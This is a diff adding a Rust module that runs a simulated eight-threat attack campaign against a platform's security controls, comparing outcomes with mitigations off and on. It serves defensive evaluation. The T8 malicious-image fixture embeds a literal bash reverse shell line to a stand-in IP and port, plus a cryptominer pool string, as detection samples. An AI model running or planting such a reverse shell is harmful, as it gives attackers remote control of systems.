@@ -1,0 +1,585 @@
+//! The end-to-end attack campaign (experiment E-S1): one executable attack
+//! per threat T1–T8, run twice — mitigations disabled, then enabled — so
+//! the paper's qualitative claims become a measured matrix.
+
+use genio_appsec::dast::{
+    fuzz, FindingKind, Handler, HardenedTenantApp, Request, VulnerableTenantApp,
+};
+use genio_appsec::image::{ContainerImage, Interface, Layer};
+use genio_appsec::sast::{analyze, vulnerable_sample};
+use genio_appsec::yara::default_malware_rules;
+use genio_hardening::osstate::OsState;
+use genio_hardening::profile::all_profiles;
+use genio_hardening::remediate::{harden, olt_sdn_constraints};
+use genio_orchestrator::admission::{evaluate, AdmissionLevel};
+use genio_orchestrator::rbac::{
+    orchestrator_admin_role, orchestrator_scoped_role, Authorizer, RoleBinding,
+};
+use genio_orchestrator::workload::{Capability, PodSpec};
+use genio_pon::activation::{ActivationController, CertificateAdmission, SerialAllowlist};
+use genio_pon::attack::{FiberTap, ImpersonationOutcome, ReplayAttacker, ReplayOutcome, RogueOnu};
+use genio_pon::security::GemCrypto;
+use genio_pon::topology::PonTree;
+use genio_runtime::events::attack_burst;
+use genio_runtime::falco::{Engine, RuleSetTier};
+use genio_runtime::lsm::{enforce_trace, LsmPolicy, Mode};
+use genio_secureboot::bootchain::{boot, BootPolicy, ImageSigner, KeyDb, StageKind};
+use genio_secureboot::tpm::Tpm;
+use genio_vulnmgmt::cve::reference_corpus;
+use genio_vulnmgmt::feed::TrackingPipeline;
+use genio_vulnmgmt::patching::{schedule, PatchPolicy};
+use genio_vulnmgmt::scanner::{scan as vuln_scan, AliasMap, PackageInventory};
+
+/// Outcome of one attack execution.
+#[derive(Debug, Clone)]
+pub struct AttackOutcome {
+    /// The attacker achieved the objective.
+    pub succeeded: bool,
+    /// The platform raised an observable signal (halt, alert, denial).
+    pub detected: bool,
+    /// Free-form evidence.
+    pub notes: String,
+}
+
+/// One row of the campaign matrix.
+#[derive(Debug, Clone)]
+pub struct CampaignRow {
+    /// Threat id, e.g. `T1`.
+    pub threat_id: String,
+    /// Attack description.
+    pub attack: &'static str,
+    /// Outcome with mitigations off.
+    pub unmitigated: AttackOutcome,
+    /// Outcome with mitigations on.
+    pub mitigated: AttackOutcome,
+}
+
+/// Campaign configuration.
+#[derive(Debug, Clone, Copy)]
+pub struct CampaignConfig {
+    /// Seed for key material.
+    pub seed: u64,
+}
+
+impl Default for CampaignConfig {
+    fn default() -> Self {
+        CampaignConfig { seed: 42 }
+    }
+}
+
+/// The full campaign result.
+#[derive(Debug, Clone)]
+pub struct CampaignReport {
+    /// One row per threat.
+    pub rows: Vec<CampaignRow>,
+}
+
+impl CampaignReport {
+    /// Renders the matrix as a text table.
+    pub fn render(&self) -> String {
+        let mut out = String::new();
+        out.push_str(&format!(
+            "{:<4} {:<44} {:<22} {:<22}\n",
+            "id", "attack", "unmitigated", "mitigated"
+        ));
+        for row in &self.rows {
+            let fmt_outcome = |o: &AttackOutcome| {
+                format!(
+                    "{}{}",
+                    if o.succeeded { "SUCCEEDS" } else { "blocked" },
+                    if o.detected { "+detected" } else { "" }
+                )
+            };
+            out.push_str(&format!(
+                "{:<4} {:<44} {:<22} {:<22}\n",
+                row.threat_id,
+                row.attack,
+                fmt_outcome(&row.unmitigated),
+                fmt_outcome(&row.mitigated)
+            ));
+        }
+        out
+    }
+}
+
+/// Runs the whole campaign.
+pub fn run_campaign(config: &CampaignConfig) -> CampaignReport {
+    CampaignReport {
+        rows: vec![
+            t1_network_attacks(config),
+            t2_code_tampering(config),
+            t3_privilege_abuse_infra(),
+            t4_software_vulns_infra(),
+            t5_privilege_abuse_middleware(),
+            t6_software_vulns_middleware(),
+            t7_vulnerable_application(),
+            t8_malicious_application(),
+        ],
+    }
+}
+
+/// T1: fiber tap eavesdropping + frame replay + rogue-ONU impersonation,
+/// against cleartext/serial-trust (off) vs AES-GCM + certificate admission
+/// (M3, M4).
+fn t1_network_attacks(config: &CampaignConfig) -> CampaignRow {
+    let seed = config.seed.to_be_bytes();
+
+    let run = |mitigated: bool| -> AttackOutcome {
+        let mut tree = PonTree::builder("olt-1/pon-0").split_ratio(8).build();
+        tree.attach_onu("GENIO-0001", 500).expect("capacity");
+
+        // --- eavesdropping + replay on the downstream.
+        let mut tap = FiberTap::new();
+        let mut replayer = ReplayAttacker::new();
+        let (exposure, replay) = if mitigated {
+            let mut olt = GemCrypto::new(&seed);
+            let mut onu = GemCrypto::new(&seed);
+            olt.establish_key(100, 1);
+            onu.establish_key(100, 1);
+            for i in 0..10u32 {
+                let frame = olt
+                    .encrypt_downstream(100, 1, format!("meter {i}").as_bytes())
+                    .expect("keyed port");
+                tap.observe(&frame);
+                replayer.capture(&frame);
+                onu.decrypt(&frame).expect("legitimate delivery");
+            }
+            (
+                tap.exposure_ratio().unwrap_or(0.0),
+                replayer.replay_against(3, &mut onu),
+            )
+        } else {
+            let mut onu = GemCrypto::new(&seed);
+            for i in 0..10u32 {
+                let frame = GemCrypto::cleartext_downstream(
+                    100,
+                    1,
+                    i as u64,
+                    format!("meter {i}").as_bytes(),
+                );
+                tap.observe(&frame);
+                replayer.capture(&frame);
+            }
+            (
+                tap.exposure_ratio().unwrap_or(0.0),
+                replayer.replay_against(3, &mut onu),
+            )
+        };
+
+        // --- impersonation at activation.
+        let mut controller = if mitigated {
+            ActivationController::new(Box::new(CertificateAdmission::new(
+                |_serial: &str, evidence: &[u8]| evidence == b"genuine-device-chain",
+            )))
+        } else {
+            let mut allow = SerialAllowlist::new();
+            allow.allow("GENIO-0001");
+            ActivationController::new(Box::new(allow))
+        };
+        let rogue = RogueOnu::cloning("GENIO-0001").with_forged_evidence(b"forged".to_vec());
+        let impersonation = rogue.attempt(&mut controller, &mut tree);
+
+        let eavesdropped = exposure > 0.0;
+        let replayed = replay == ReplayOutcome::Accepted;
+        let impersonated = matches!(impersonation, ImpersonationOutcome::Admitted(_));
+        AttackOutcome {
+            succeeded: eavesdropped || replayed || impersonated,
+            detected: mitigated
+                && (replay == ReplayOutcome::RejectedReplay
+                    || matches!(impersonation, ImpersonationOutcome::Denied(_))),
+            notes: format!("exposure={exposure:.2} replay={replay:?} impersonation={impersonated}"),
+        }
+    };
+
+    CampaignRow {
+        threat_id: "T1".into(),
+        attack: "fiber tap + replay + ONU impersonation",
+        unmitigated: run(false),
+        mitigated: run(true),
+    }
+}
+
+/// T2: backdoored kernel image in the boot chain, against measured+enforced
+/// Secure Boot (M5) vs nothing.
+fn t2_code_tampering(config: &CampaignConfig) -> CampaignRow {
+    let seed = config.seed.to_be_bytes();
+
+    let run = |mitigated: bool| -> AttackOutcome {
+        let mut vendor = ImageSigner::from_seed(&[&seed[..], b"vendor"].concat());
+        let mut owner = ImageSigner::from_seed(&[&seed[..], b"mok"].concat());
+        let mut keys = KeyDb::new();
+        keys.trust_vendor(vendor.public());
+        keys.enroll_mok(owner.public());
+        let mut stages = vec![
+            vendor
+                .sign(StageKind::Shim, b"shim-15.7")
+                .expect("capacity"),
+            owner.sign(StageKind::Grub, b"grub-2.06").expect("capacity"),
+            owner
+                .sign(StageKind::Kernel, b"onl-kernel")
+                .expect("capacity"),
+        ];
+        // The attack: swap the kernel image.
+        stages[2].content = b"onl-kernel-BACKDOORED".to_vec();
+
+        let policy = if mitigated {
+            BootPolicy::default()
+        } else {
+            BootPolicy {
+                enforce_signatures: false,
+                measure: false,
+            }
+        };
+        let mut tpm = Tpm::new(&seed);
+        let report = boot(&stages, &keys, &policy, &mut tpm);
+        AttackOutcome {
+            succeeded: report.completed,
+            detected: report.halted_at.is_some() || report.event_log.iter().any(|e| !e.verified),
+            notes: format!(
+                "completed={} halted_at={:?}",
+                report.completed, report.halted_at
+            ),
+        }
+    };
+
+    CampaignRow {
+        threat_id: "T2".into(),
+        attack: "backdoored kernel in the boot chain",
+        unmitigated: run(false),
+        mitigated: run(true),
+    }
+}
+
+/// T3: privilege escalation through OS misconfiguration (telnet, root SSH,
+/// world-readable shadow), against factory ONL vs hardened ONL (M1, M2).
+fn t3_privilege_abuse_infra() -> CampaignRow {
+    let exploitable = |os: &OsState| -> Vec<&'static str> {
+        let mut holes = Vec::new();
+        if os.service_active("telnet") {
+            holes.push("telnet");
+        }
+        if os.sshd.get("PermitRootLogin").map(String::as_str) == Some("yes") {
+            holes.push("root-ssh");
+        }
+        if os
+            .files
+            .get("/etc/shadow")
+            .map(|f| f.mode > 0o640)
+            .unwrap_or(false)
+        {
+            holes.push("shadow-readable");
+        }
+        holes
+    };
+
+    let factory = OsState::onl_factory();
+    let factory_holes = exploitable(&factory);
+
+    let mut hardened = OsState::onl_factory();
+    let outcome = harden(&mut hardened, &all_profiles(), &olt_sdn_constraints());
+    let hardened_holes = exploitable(&hardened);
+
+    CampaignRow {
+        threat_id: "T3".into(),
+        attack: "privilege escalation via OS misconfiguration",
+        unmitigated: AttackOutcome {
+            succeeded: !factory_holes.is_empty(),
+            detected: false,
+            notes: format!("holes: {factory_holes:?}"),
+        },
+        mitigated: AttackOutcome {
+            succeeded: !hardened_holes.is_empty(),
+            detected: !outcome.applied.is_empty(),
+            notes: format!("holes after hardening: {hardened_holes:?}"),
+        },
+    }
+}
+
+/// T4: exploitation of a known kernel LPE on the OLT, against no scanning
+/// vs tuned scanning + patching (M8).
+fn t4_software_vulns_infra() -> CampaignRow {
+    let db = reference_corpus();
+    let inventory = PackageInventory::onl_olt();
+    let pipeline = TrackingPipeline::genio_default();
+    let policy = PatchPolicy::default();
+    // The kernel LPE publishes on day 205; the attacker strikes on day 260.
+    let attack_day = 260u64;
+    let kernel_cve = db.get("CVE-2025-0108").expect("in corpus");
+
+    // Unmitigated: the vendor-prefixed kernel package is invisible to the
+    // default scanner, so the CVE is never associated with the host and no
+    // patch is ever scheduled.
+    let untuned = vuln_scan(&inventory, &db, &AliasMap::none());
+    let unmitigated_sees_it = untuned.iter().any(|f| f.cve_id == "CVE-2025-0108");
+
+    // Mitigated: tuned aliases surface the finding; the patch pipeline
+    // schedules the fix before the attack day (exploited → emergency).
+    let tuned = vuln_scan(&inventory, &db, &AliasMap::onl_tuned());
+    let mitigated_sees_it = tuned.iter().any(|f| f.cve_id == "CVE-2025-0108");
+    let timeline = schedule(kernel_cve, &pipeline, &policy);
+
+    CampaignRow {
+        threat_id: "T4".into(),
+        attack: "kernel LPE exploit on unpatched OLT",
+        unmitigated: AttackOutcome {
+            succeeded: !unmitigated_sees_it, // never patched → exploitable
+            detected: false,
+            notes: format!("default scan findings: {}", untuned.len()),
+        },
+        mitigated: AttackOutcome {
+            succeeded: timeline.patched_day > attack_day,
+            detected: mitigated_sees_it,
+            notes: format!(
+                "patched day {} vs attack day {attack_day}",
+                timeline.patched_day
+            ),
+        },
+    }
+}
+
+/// T5: a tenant service account abusing an over-broad role to reach another
+/// tenant's secrets, against wildcard RBAC vs scoped roles (M10).
+fn t5_privilege_abuse_middleware() -> CampaignRow {
+    let attempt = |authz: &Authorizer| {
+        authz.allowed("tenant-a-deployer", "get", "secrets", Some("tenant-b"))
+            || authz.allowed("tenant-a-deployer", "delete", "pods", Some("tenant-b"))
+    };
+
+    // Unmitigated: insecure default — a cluster-wide wildcard binding.
+    let mut lax = Authorizer::new();
+    lax.add_role(orchestrator_admin_role());
+    lax.bind(RoleBinding::new(
+        "tenant-a-deployer",
+        "orchestrator-admin",
+        None,
+    ));
+    let lax_success = attempt(&lax);
+
+    // Mitigated: scoped role, namespaced binding.
+    let mut strict = Authorizer::new();
+    strict.add_role(orchestrator_scoped_role());
+    strict.bind(RoleBinding::new(
+        "tenant-a-deployer",
+        "orchestrator-deployer",
+        Some("tenant-a"),
+    ));
+    let strict_success = attempt(&strict);
+
+    CampaignRow {
+        threat_id: "T5".into(),
+        attack: "cross-tenant access via over-broad RBAC",
+        unmitigated: AttackOutcome {
+            succeeded: lax_success,
+            detected: false,
+            notes: "wildcard cluster-wide binding".into(),
+        },
+        mitigated: AttackOutcome {
+            succeeded: strict_success,
+            detected: !strict_success, // the authorization denial is logged
+            notes: "scoped role, namespaced binding".into(),
+        },
+    }
+}
+
+/// T6: exploitation of a containerd CVE in the middleware, against no
+/// tracking vs the feed/KBOM/patching pipeline (M12).
+fn t6_software_vulns_middleware() -> CampaignRow {
+    let db = reference_corpus();
+    let pipeline = TrackingPipeline::genio_default();
+    let policy = PatchPolicy::default();
+    let cve = db.get("CVE-2025-0103").expect("in corpus"); // containerd, day 75
+    let attack_day = 120u64;
+    let timeline = schedule(cve, &pipeline, &policy);
+
+    CampaignRow {
+        threat_id: "T6".into(),
+        attack: "containerd escape exploited in middleware",
+        unmitigated: AttackOutcome {
+            // No tracking: still unpatched at the attack day.
+            succeeded: true,
+            detected: false,
+            notes: "no vulnerability tracking in place".into(),
+        },
+        mitigated: AttackOutcome {
+            succeeded: timeline.patched_day > attack_day,
+            detected: true, // the advisory was ingested and triaged
+            notes: format!(
+                "aware day {} via {}, patched day {}",
+                timeline.awareness_day, timeline.channel, timeline.patched_day
+            ),
+        },
+    }
+}
+
+/// T7: exploiting a vulnerable tenant application (SQLi + auth bypass),
+/// against no pre-deployment testing vs the SAST+DAST gate (M13–M15).
+fn t7_vulnerable_application() -> CampaignRow {
+    // The attack itself: reach the admin panel without credentials.
+    let exploit = |app: &dyn Handler| {
+        let response = app.handle(&Request {
+            path: "/admin".into(),
+            params: Default::default(),
+            authenticated: false,
+        });
+        (200..300).contains(&response.status)
+    };
+
+    // Unmitigated: the vulnerable app ships as-is.
+    let unmitigated_success = exploit(&VulnerableTenantApp);
+
+    // Mitigated: the security gate runs SAST and DAST; the vulnerable build
+    // is rejected, so the tenant deploys the fixed build.
+    let sast_findings = analyze(&vulnerable_sample());
+    let dast_report = fuzz(&VulnerableTenantApp::spec(), &VulnerableTenantApp);
+    let gate_blocks = !sast_findings.is_empty()
+        || dast_report
+            .findings
+            .iter()
+            .any(|f| f.kind == FindingKind::AuthBypass);
+    let deployed_success = if gate_blocks {
+        exploit(&HardenedTenantApp)
+    } else {
+        unmitigated_success
+    };
+
+    CampaignRow {
+        threat_id: "T7".into(),
+        attack: "unauthenticated admin access on tenant app",
+        unmitigated: AttackOutcome {
+            succeeded: unmitigated_success,
+            detected: false,
+            notes: "no pre-deployment testing".into(),
+        },
+        mitigated: AttackOutcome {
+            succeeded: deployed_success,
+            detected: gate_blocks,
+            notes: format!(
+                "sast findings {} / dast findings {}",
+                sast_findings.len(),
+                dast_report.findings.len()
+            ),
+        },
+    }
+}
+
+/// T8: a deliberately malicious image (cryptominer + reverse shell +
+/// CAP_SYS_ADMIN), against no controls vs the M16–M18 stack.
+fn t8_malicious_application() -> CampaignRow {
+    let image = ContainerImage::new("registry.genio/totally-legit:1.0", Interface::Rest).layer(
+        Layer::new()
+            .file("/app/server", b"plausible web server")
+            .file(
+                "/opt/.cache/worker",
+                b"donate-level=1 stratum+tcp://pool:3333",
+            )
+            .file(
+                "/opt/.cache/fallback.sh",
+                b"bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
+            ),
+    );
+    let mut pod = PodSpec::new("totally-legit", "tenant-evil", &image.reference);
+    pod.containers[0]
+        .capabilities
+        .push(Capability::CAP_SYS_ADMIN);
+
+    // Unmitigated: image admitted, pod privileged, behaviour unobserved.
+    let unmitigated = AttackOutcome {
+        succeeded: true,
+        detected: false,
+        notes: "no registry scanning, privileged admission, no runtime monitoring".into(),
+    };
+
+    // Mitigated: three independent layers.
+    let yara_hits = default_malware_rules().scan_image(&image);
+    let admission_violations = evaluate(&pod, AdmissionLevel::Restricted);
+    let policy = LsmPolicy::tenant_default("tenant-evil", Mode::Enforce);
+    let burst = attack_burst("tenant-evil", 0);
+    let (_, _, blocked) = enforce_trace(&policy, &burst);
+    let falco = Engine::with_tier(RuleSetTier::Default).expect("bundled rules parse");
+    let alerts = falco.process_all(&burst);
+
+    let mitigated = AttackOutcome {
+        succeeded: yara_hits.is_empty() && admission_violations.is_empty() && blocked == 0,
+        detected: !yara_hits.is_empty() || !admission_violations.is_empty() || !alerts.is_empty(),
+        notes: format!(
+            "yara hits {} / admission violations {} / lsm blocked {} / falco alerts {}",
+            yara_hits.len(),
+            admission_violations.len(),
+            blocked,
+            alerts.len()
+        ),
+    };
+
+    CampaignRow {
+        threat_id: "T8".into(),
+        attack: "malicious image: miner + reverse shell + CAP_SYS_ADMIN",
+        unmitigated,
+        mitigated,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn report() -> CampaignReport {
+        run_campaign(&CampaignConfig::default())
+    }
+
+    #[test]
+    fn campaign_has_one_row_per_threat() {
+        let r = report();
+        assert_eq!(r.rows.len(), 8);
+        let ids: Vec<&str> = r.rows.iter().map(|row| row.threat_id.as_str()).collect();
+        assert_eq!(ids, vec!["T1", "T2", "T3", "T4", "T5", "T6", "T7", "T8"]);
+    }
+
+    #[test]
+    fn every_attack_succeeds_unmitigated() {
+        for row in report().rows {
+            assert!(
+                row.unmitigated.succeeded,
+                "{} should succeed unmitigated",
+                row.threat_id
+            );
+            assert!(
+                !row.unmitigated.detected,
+                "{} should be invisible unmitigated",
+                row.threat_id
+            );
+        }
+    }
+
+    #[test]
+    fn every_attack_is_stopped_and_detected_mitigated() {
+        for row in report().rows {
+            assert!(
+                !row.mitigated.succeeded,
+                "{}: {}",
+                row.threat_id, row.mitigated.notes
+            );
+            assert!(
+                row.mitigated.detected,
+                "{}: {}",
+                row.threat_id, row.mitigated.notes
+            );
+        }
+    }
+
+    #[test]
+    fn render_contains_all_rows() {
+        let s = report().render();
+        for t in 1..=8 {
+            assert!(s.contains(&format!("T{t}")));
+        }
+        assert!(s.contains("SUCCEEDS"));
+        assert!(s.contains("blocked"));
+    }
+
+    #[test]
+    fn campaign_is_deterministic() {
+        let a = report().render();
+        let b = report().render();
+        assert_eq!(a, b);
+    }
+}
